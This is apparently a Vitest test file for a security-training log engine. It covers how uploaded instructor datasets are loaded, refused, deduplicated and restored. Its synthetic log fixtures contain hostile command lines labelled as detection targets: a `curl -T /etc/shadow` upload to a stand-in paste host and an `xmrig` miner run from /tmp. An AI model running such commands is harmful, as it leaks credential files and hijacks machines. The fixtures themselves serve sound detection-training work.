// Uploaded datasets on the engine, through its real processes and protocol: the app's stored gzip
// chunks (made here by the app's own parser) pushed with /v1/load, built into the same read-only
// `logs` table as generated data, the labels kept beside it; refusals leave nothing behind; loads
// of one sha256 build once; other and restarted processes reopen the file; evicted files come back
// from the source on demand.
import { createHash, randomBytes } from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { Readable } from "node:stream";
import { gzipSync } from "node:zlib";
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { deriveSeed, GENERATOR_VERSION } from "@/lib/labgen";
import { parseLogUpload, readCanonicalEvents, type CanonicalEvent } from "@/lib/content/upload-parse";
import { RemoteDataset, loadUpload } from "@/lib/server/lab-engine/client";
import { LOAD_SHA256_HEADER, MISSING_DATA_MESSAGE, type UploadSpec } from "@/lib/server/lab-engine/protocol";
import { DatasetStore } from "@/lib/server/lab-engine/store";
import { LocalEnginePool, hashIndex } from "@/lib/server/lab-engine/supervisor";
import { QueryRejected } from "@/lib/server/lab-engine/types";
import { DEFAULT_LOAD_LIMITS, LoadRefused, MissingData, SHA_MISMATCH } from "@/lib/server/lab-engine/upload";
import { evictAll } from "@/lib/server/lab-engine/cache";

let dataDir: string;
let pool: LocalEnginePool;
const uploads = () => path.join(dataDir, "uploads");

type Upload = { sha: string; chunks: Uint8Array[]; events: CanonicalEvent[]; labels: Record<string, number[]>; spec: UploadSpec };

/** An instructor's JSON-lines file, as the app parses and stores it (several gzip members). */
async function makeUpload(salt: string, n = 300): Promise<Upload> {
  const hosts = ["web-01", "web-02", "db-01", "bastion"];
  const lines: string[] = [];
  for (let i = 1; i <= n; i++) {
    const miner = i >= 40 && i < 52;
    const exfil = i % 37 === 0;
    const e: Record<string, unknown> = {
      // not in id order: the file's order gives the ids, the explorer sorts by time
      ts: new Date(Date.UTC(2026, 2, 9, 1, 0, 0) + ((i * 7919) % n) * 1000 + (i % 1000)).toISOString().replace("Z", "+00:00"),
      host: hosts[i % hosts.length],
      service: i % 3 ? "sshd" : "cron",
      level: ["INFO", "WARN", "ERROR", "DEBUG"][i % 4],
      raw: miner
        ? `Mar  9 01:00:${String(i % 60).padStart(2, "0")} ${hosts[i % 4]} cron[${i}]: /tmp/.x/xmrig --donate-level 1 ${salt}`
        : exfil
          ? `curl -T /etc/shadow https://paste.example/${i}\n\tat line two, é 日本 😀 \ue000 ${salt}`
          : `event ${i} of ${salt}: user=alice src=10.0.0.${i % 255} quote=' "dq" back\\slash`,
      fields: i % 5 ? { pid: String(1000 + i), user: i % 2 ? "alice" : "root", "weird key": "a=b;c" } : {},
    };
    if (i % 2) e.message = `message ${i} ${salt}`;
    if (miner) e.label = "miner";
    if (exfil) e.label = "exfil";
    lines.push(JSON.stringify(e));
  }
  const parsed = await parseLogUpload([lines.join("\n")], "jsonl", { chunkBytes: 8 * 1024 });
  expect(parsed.chunks.length).toBeGreaterThan(3);
  const events: CanonicalEvent[] = [];
  for await (const e of readCanonicalEvents(parsed.chunks)) events.push(e);
  const labels: Record<string, number[]> = {};
  for (const e of events) if (e.label) (labels[e.label] ??= []).push(e.id);
  return { sha: parsed.sha256, chunks: parsed.chunks, events, labels, spec: { upload: parsed.sha256 } };
}

/** The app's source: the stored chunks read one at a time, counted. */
function sourceOf(upload: Upload) {
  const counter = {
    calls: 0,
    source: () => {
      counter.calls++;
      return (async function* () {
        for (const c of upload.chunks) {
          await new Promise((r) => setTimeout(r, 1));
          yield c;
        }
      })();
    },
  };
  return counter;
}
const noSource = () => {
  throw new Error("the data was not expected to be pushed again");
};

/** An upload whose key the pool routes to normal process `index`. */
async function uploadOn(index: number, salt: string): Promise<Upload> {
  for (let i = 0; ; i++) {
    const u = await makeUpload(`${salt}-${i}`);
    if (hashIndex(`upload:${u.sha}`, 2) === index) return u;
  }
}

const rejection = (p: Promise<unknown>) =>
  p.then(
    () => {
      throw new Error("expected a rejection");
    },
    (e: unknown) => e as QueryRejected,
  );

async function post(url: string, sha: string, body: Uint8Array, token = pool.token) {
  const res = await fetch(`${url}/v1/load`, {
    method: "POST",
    headers: { authorization: `Bearer ${token}`, "content-type": "application/gzip", [LOAD_SHA256_HEADER]: sha },
    body: new Uint8Array(body),
  });
  return { status: res.status, body: (await res.json()) as { meta?: { eventCount: number }; error?: { kind: string; message: string; line?: number } } };
}
const concat = (chunks: Uint8Array[]) => Buffer.concat(chunks.map((c) => Buffer.from(c)));
const ownUrl = async (sha: string) => (await pool.endpointFor(`upload:${sha}`)).url!;
/** Files of this sha256, and any temporary file, under uploads/. */
const leftovers = (sha: string) =>
  fs.existsSync(uploads()) ? fs.readdirSync(uploads()).filter((f) => f.includes(sha) || f.endsWith(".tmp") || f.endsWith(".wal")) : [];

let a: Upload;

beforeAll(async () => {
  dataDir = fs.mkdtempSync(path.join(os.tmpdir(), "watchfloor-upload-"));
  // one open dataset per process, so that opening another one closes the first
  pool = new LocalEnginePool({ processes: 2, slowLane: false, dataDir, env: { LAB_MAX_DATASETS: "1" } });
  a = await makeUpload("a");
  await pool.ready();
});
afterAll(async () => {
  await pool?.stop();
  fs.rmSync(dataDir, { recursive: true, force: true });
});
afterEach(() => {
  vi.restoreAllMocks();
});

describe("an uploaded dataset", () => {
  it("is missing_data (409) on the engine until the app pushes it", async () => {
    const url = await ownUrl(a.sha);
    for (const wait of ["truth", "dataset"]) {
      const res = await fetch(`${url}/v1/prepare`, {
        method: "POST",
        headers: { authorization: `Bearer ${pool.token}`, "content-type": "application/json" },
        body: JSON.stringify({ spec: a.spec, wait }),
      });
      expect(res.status).toBe(409);
      expect(await res.json()).toEqual({ error: { kind: "missing_data", message: MISSING_DATA_MESSAGE } });
    }
    // without a source the app's client says so
    const ds = new RemoteDataset(a.spec, pool);
    for (const call of [
      () => ds.prepare("truth"),
      () => ds.query("SELECT count(*) FROM logs"),
      () => ds.queryIds("SELECT id FROM logs"),
      () => ds.explore({}, { offset: 0, limit: 5 }),
    ]) {
      const err = await rejection(call());
      expect(err).toBeInstanceOf(QueryRejected);
      expect({ kind: err.kind, message: err.message }).toEqual({ kind: "engine", message: MISSING_DATA_MESSAGE });
    }
    expect(leftovers(a.sha)).toEqual([]);
  });

  it("is pushed from its source on first use (once for concurrent calls) and serves the uploaded rows exactly", async () => {
    const counter = sourceOf(a);
    const ds = new RemoteDataset(a.spec, pool, counter.source);
    const [count, prepared, truthOnly] = await Promise.all([ds.query("SELECT count(*) FROM logs"), ds.prepare("dataset"), ds.prepare("truth")]);
    expect(counter.calls).toBe(1);
    expect(count.rows).toEqual([[a.events.length]]);

    // the truth is the labels' ids, never a column
    expect(prepared.truth).toEqual({ labels: a.labels });
    expect(truthOnly.truth.labels).toEqual(a.labels);
    expect(Object.keys(a.labels).sort()).toEqual(["exfil", "miner"]);
    expect(a.labels.miner).toEqual(Array.from({ length: 12 }, (_, i) => 40 + i));
    const meta = prepared.meta!;
    expect(meta.schema).toEqual([
      { name: "id", type: "BIGINT" },
      { name: "ts", type: "TIMESTAMP" },
      { name: "host", type: "VARCHAR" },
      { name: "service", type: "VARCHAR" },
      { name: "level", type: "VARCHAR" },
      { name: "message", type: "VARCHAR" },
      { name: "raw", type: "VARCHAR" },
      { name: "fields", type: "MAP(VARCHAR, VARCHAR)" },
    ]);
    const sorted = (xs: string[]) => [...new Set(xs)].sort();
    const times = a.events.map((e) => e.ts).sort();
    expect(meta).toMatchObject({
      eventCount: a.events.length,
      hosts: sorted(a.events.map((e) => e.host)),
      services: sorted(a.events.map((e) => e.service)),
      levels: sorted(a.events.map((e) => e.level)),
      range: { from: times[0], to: times[times.length - 1] },
    });
    const label = await rejection(ds.query("SELECT label FROM logs"));
    expect(label).toBeInstanceOf(QueryRejected);
    expect(label.message).toMatch(/label/);

    // every row exactly as uploaded
    const all = await ds.query("SELECT id, ts, host, service, level, message, raw, fields FROM logs ORDER BY id");
    expect(all.rows).toHaveLength(a.events.length);
    for (const [i, [id, ts, host, service, level, message, raw, fields]] of all.rows.entries()) {
      const e = a.events[i];
      expect({ id, ts, host, service, level, message, raw }).toEqual({
        id: e.id,
        ts: e.ts,
        host: e.host,
        service: e.service,
        level: e.level,
        message: e.message,
        raw: e.raw,
      });
      expect(JSON.parse(fields as string)).toEqual(e.fields);
    }
    expect(a.events.some((e) => e.raw.includes("\n\t") && e.raw.includes("😀"))).toBe(true);
    expect((await ds.query("SELECT fields['weird key'] FROM logs WHERE id = 1")).rows).toEqual([["a=b;c"]]);

    // detection ids and the explorer
    expect((await ds.queryIds("SELECT id FROM logs WHERE raw LIKE '%xmrig%'")).sort((x, y) => x - y)).toEqual(a.labels.miner);
    const errors = a.events.filter((e) => e.level === "ERROR").sort((x, y) => (x.ts < y.ts ? -1 : x.ts > y.ts ? 1 : x.id - y.id));
    const page = await ds.explore({ levels: ["ERROR"] }, { offset: 0, limit: 20 }, { facets: true });
    expect(page.total).toBe(errors.length);
    expect(page.rows).toEqual(errors.slice(0, 20).map(({ id, ts, host, service, level, message }) => ({ id, ts, host, service, level, message })));
    expect(page.facets!.level).toEqual([{ value: "ERROR", count: errors.length }]);

    // the files: data, truth (labels only) and facts, under uploads/
    expect(fs.readdirSync(uploads()).sort()).toEqual([`${a.sha}.duckdb`, `${a.sha}.meta.json`, `${a.sha}.truth.json`]);
    expect(JSON.parse(fs.readFileSync(path.join(uploads(), `${a.sha}.truth.json`), "utf8"))).toEqual({ labels: a.labels });
    expect(JSON.parse(fs.readFileSync(path.join(uploads(), `${a.sha}.meta.json`), "utf8"))).toMatchObject({ eventCount: a.events.length });

    // a second dataset object of the same data does not push it again
    expect((await new RemoteDataset(a.spec, pool, noSource).query("SELECT count(*) FROM logs")).rows).toEqual([[a.events.length]]);
    // the app's verify step: answered at once, with the facts
    const verified = await loadUpload(a.spec, sourceOf(a).source, pool);
    expect(verified.meta).toEqual(meta);
  });

  it("refuses data that does not match its sha256, and leaves nothing on disk", async () => {
    const wrong = createHash("sha256").update(randomBytes(16)).digest("hex");
    const res = await post(await ownUrl(wrong), wrong, concat(a.chunks));
    expect(res).toEqual({ status: 400, body: { error: { kind: "bad_request", message: SHA_MISMATCH } } });
    const err = await rejection(loadUpload({ upload: wrong }, sourceOf(a).source, pool));
    expect({ kind: err.kind, message: err.message }).toEqual({ kind: "engine", message: SHA_MISMATCH });
    expect(leftovers(wrong)).toEqual([]);
    // the wrong spec's data is still missing, not half there
    expect((await rejection(new RemoteDataset({ upload: wrong }, pool).query("SELECT 1"))).message).toBe(MISSING_DATA_MESSAGE);
    // a body that is not gzip, and a request without the header
    const url = await ownUrl(a.sha);
    expect((await post(url, wrong, Buffer.from("{}\n"))).body.error!.message).toMatch(/not a valid gzip stream/);
    const bare = await fetch(`${url}/v1/load`, {
      method: "POST",
      headers: { authorization: `Bearer ${pool.token}`, "content-type": "application/gzip" },
      body: "x",
    });
    expect(bare.status).toBe(400);
    expect((await post(url, wrong, concat(a.chunks), "x".repeat(32))).status).toBe(401);
  });

  it("refuses a malformed line with its number, leaves nothing on disk, and keeps the connection usable", async () => {
    const lines = a.events.map((e) => JSON.stringify(e));
    lines[122] = lines[122].replace(/"level":"[A-Z]+"/, '"level":"LOUD"');
    const text = `${lines.join("\n")}\n`;
    const sha = createHash("sha256").update(text).digest("hex");
    const url = await ownUrl(sha);
    const res = await post(url, sha, gzipSync(text));
    expect(res.status).toBe(400);
    expect(res.body.error).toMatchObject({ kind: "bad_request", line: 123 });
    expect(res.body.error!.message).toMatch(/^Line 123: level: /);
    const viaClient = await rejection(
      loadUpload(
        { upload: sha },
        (async function* () {
          yield gzipSync(text);
        })(),
        pool,
      ),
    );
    expect(viaClient.message).toMatch(/^Line 123: level: /);
    expect(leftovers(sha)).toEqual([]);

    // refused at line 2 of a body of several MB: the engine answers once it has read the rest away
    const big = Array.from({ length: 2500 }, (_, i) =>
      JSON.stringify({ ...a.events[0], id: i === 1 ? 99 : i + 1, raw: randomBytes(900).toString("base64"), label: undefined }),
    );
    const bigText = `${big.join("\n")}\n`;
    const bigSha = createHash("sha256").update(bigText).digest("hex");
    const body = gzipSync(bigText);
    expect(body.length).toBeGreaterThan(2 * 2 ** 20);
    const early = await post(await ownUrl(bigSha), bigSha, body);
    expect(early.body.error).toMatchObject({ kind: "bad_request", line: 2, message: expect.stringMatching(/^Line 2: id: expected 2/) });
    expect(leftovers(bigSha)).toEqual([]);
    expect((await new RemoteDataset(a.spec, pool).query("SELECT count(*) FROM logs")).rows).toEqual([[a.events.length]]);
  });

  it("builds once when loads of one sha256 arrive together, and answers at once once built", async () => {
    const c = await makeUpload("c");
    const lines: string[] = [];
    vi.spyOn(console, "log").mockImplementation((line: unknown) => void lines.push(String(line)));
    const loaded = () =>
      lines
        .map((l) => {
          try {
            return JSON.parse(l) as { event?: string; sha256?: string; built?: boolean };
          } catch {
            return {};
          }
        })
        .filter((l) => l.event === "upload_loaded" && l.sha256 === c.sha)
        .map((l) => l.built);
    const url = await ownUrl(c.sha);
    const answers = await Promise.all(Array.from({ length: 3 }, () => post(url, c.sha, concat(c.chunks))));
    expect(answers.map((r) => r.status)).toEqual([200, 200, 200]);
    expect(new Set(answers.map((r) => JSON.stringify(r.body.meta))).size).toBe(1);
    expect(answers[0].body.meta!.eventCount).toBe(c.events.length);
    await expect.poll(() => loaded().length).toBe(3);
    expect(loaded().sort()).toEqual([false, false, true]);
    const t = performance.now();
    expect((await post(url, c.sha, concat(c.chunks))).status).toBe(200);
    expect(performance.now() - t).toBeLessThan(2000);
    await expect.poll(() => loaded().length).toBe(4);
    expect(loaded().filter(Boolean)).toHaveLength(1);

    // and the client pushes once for concurrent calls of several dataset objects
    const d = await makeUpload("d");
    const counter = sourceOf(d);
    const results = await Promise.all(
      Array.from({ length: 4 }, (_, i) => new RemoteDataset(d.spec, pool, counter.source).query(`SELECT count(*) + ${i} FROM logs`)),
    );
    expect(results.map((r) => r.rows[0][0])).toEqual([0, 1, 2, 3].map((i) => d.events.length + i));
    expect(counter.calls).toBe(1);
  });

  it("is reopened from its file by another process and by a restarted one, without a push", async () => {
    const other = new LocalEnginePool({ processes: 1, slowLane: false, dataDir });
    try {
      await other.ready();
      const ds = new RemoteDataset(a.spec, other, noSource);
      expect((await ds.query("SELECT count(*), sum(id) FROM logs")).rows).toEqual([[a.events.length, (a.events.length * (a.events.length + 1)) / 2]]);
      expect((await ds.prepare("truth")).truth.labels).toEqual(a.labels);
    } finally {
      await other.stop();
    }
    const index = hashIndex(`upload:${a.sha}`, 2);
    const before = pool.endpoints()[index];
    pool.kill(index);
    await expect.poll(() => pool.endpoints()[index], { timeout: 60_000 }).toMatchObject({ up: true, restarts: before.restarts + 1 });
    const ds = new RemoteDataset(a.spec, pool, noSource);
    expect((await ds.query("SELECT count(*) FROM logs")).rows).toEqual([[a.events.length]]);
    // the explorer's text filter reads the message
    const xmrig = a.events.filter((e) => e.message.includes("xmrig")).map((e) => e.id);
    expect(xmrig.length).toBeGreaterThan(0);
    expect((await ds.explore({ text: "xmrig" }, { offset: 0, limit: 50 })).rows.map((r) => r.id).sort((x, y) => x - y)).toEqual(xmrig);
  });

  it("comes back from its source when its files were evicted", async () => {
    const index = hashIndex(`upload:${a.sha}`, 2);
    const neighbour = await uploadOn(index, "neighbour");
    const counter = sourceOf(a);
    const ds = new RemoteDataset(a.spec, pool, counter.source);
    expect((await ds.query("SELECT count(*) FROM logs")).rows).toEqual([[a.events.length]]);
    expect(counter.calls).toBe(0);
    // what the disk budget removes (the data and its facts; the truth stays), then another dataset closes it in the process
    for (const ext of ["duckdb", "meta.json"]) fs.rmSync(path.join(uploads(), `${a.sha}.${ext}`));
    await new RemoteDataset(neighbour.spec, pool, sourceOf(neighbour).source).query("SELECT 1");
    expect((await ds.prepare("truth")).truth.labels).toEqual(a.labels);
    expect(counter.calls).toBe(0);
    expect((await ds.query("SELECT count(*) FROM logs")).rows).toEqual([[a.events.length]]);
    expect(counter.calls).toBe(1);
    expect(fs.existsSync(path.join(uploads(), `${a.sha}.duckdb`))).toBe(true);
  });
});

describe("uploads on disk (the store)", () => {
  it("are evicted like the least recently opened datasets, keep their truth, and are built again when pushed", async () => {
    const root = fs.mkdtempSync(path.join(os.tmpdir(), "watchfloor-upload-budget-"));
    const store = new DatasetStore(root);
    const slug = "unpatched-mesos-control-plane";
    const gen = ["a", "b"].map((s) => ({ slug, seed: deriveSeed(slug, `upload-budget-${s}`), targetEvents: 10_000 }));
    const genDir = path.join(root, slug, `v${GENERATOR_VERSION}`);
    const dataFiles = () =>
      fs
        .readdirSync(root, { recursive: true })
        .map(String)
        .filter((f) => f.endsWith(".duckdb"))
        .sort();
    const previous = process.env.LAB_DATA_MAX_MB;
    const push = () => store.load(a.sha, Readable.from(a.chunks.map((c) => Buffer.from(c))));
    try {
      await store.prepare(gen[0], "dataset");
      expect((await push()).built).toBe(true);
      expect((await push()).built).toBe(false);
      const g = fs.statSync(path.join(genDir, `${gen[0].seed}-10000.duckdb`)).size;
      const u = fs.statSync(path.join(root, "uploads", `${a.sha}.duckdb`)).size;
      expect(g / 0.9).toBeLessThan(g + u);
      // room for one generated file and the upload, not two generated files and the upload
      process.env.LAB_DATA_MAX_MB = String((g + u) / 0.85 / 2 ** 20);
      await store.prepare(gen[1], "dataset");
      // the oldest went (the first generated one), not the upload: uploads are never a stale version
      expect(dataFiles()).toEqual([`${slug}/v${GENERATOR_VERSION}/${gen[1].seed}-10000.duckdb`, `uploads/${a.sha}.duckdb`].sort());
      // now the upload is the least recently opened
      await store.use(gen[1], async (ds) => ds.query("SELECT 1"));
      await new Promise((r) => setTimeout(r, 100));
      // room for the generated file alone: the upload goes, the generated one stays
      process.env.LAB_DATA_MAX_MB = String((g / 0.9 + g + u) / 2 / 2 ** 20);
      store.sweep();
      expect(dataFiles()).toEqual([`${slug}/v${GENERATOR_VERSION}/${gen[1].seed}-10000.duckdb`]);
      expect(fs.readdirSync(path.join(root, "uploads"))).toEqual([`${a.sha}.truth.json`]);
      // the truth is still answered; the data is missing until pushed again
      expect((await store.prepare(a.spec, "truth")).truth).toEqual({ labels: a.labels });
      await evictAll();
      await expect(store.use(a.spec, async (ds) => ds.query("SELECT 1"))).rejects.toBeInstanceOf(MissingData);
      await expect(store.prepare(a.spec, "dataset")).rejects.toBeInstanceOf(MissingData);
      process.env.LAB_DATA_MAX_MB = "10240";
      expect((await push()).built).toBe(true);
      expect((await store.use(a.spec, (ds) => ds.query("SELECT count(*) FROM logs"))).rows).toEqual([[a.events.length]]);

      // past the limits: refused, nothing left behind
      const c = await makeUpload("limits");
      const limited = (limits: Partial<typeof DEFAULT_LOAD_LIMITS>) =>
        store.load(c.sha, Readable.from(c.chunks.map((x) => Buffer.from(x))), { ...DEFAULT_LOAD_LIMITS, ...limits });
      for (const limits of [{ maxBytes: 10_000 }, { maxCompressedBytes: 5_000 }]) {
        const err = await limited(limits).catch((e: unknown) => e);
        expect(err).toBeInstanceOf(LoadRefused);
        expect((err as LoadRefused).status).toBe(413);
      }
      expect(fs.readdirSync(path.join(root, "uploads")).filter((f) => f.includes(c.sha) || f.endsWith(".tmp"))).toEqual([]);
    } finally {
      if (previous === undefined) delete process.env.LAB_DATA_MAX_MB;
      else process.env.LAB_DATA_MAX_MB = previous;
      await evictAll();
      fs.rmSync(root, { recursive: true, force: true });
    }
  });
});
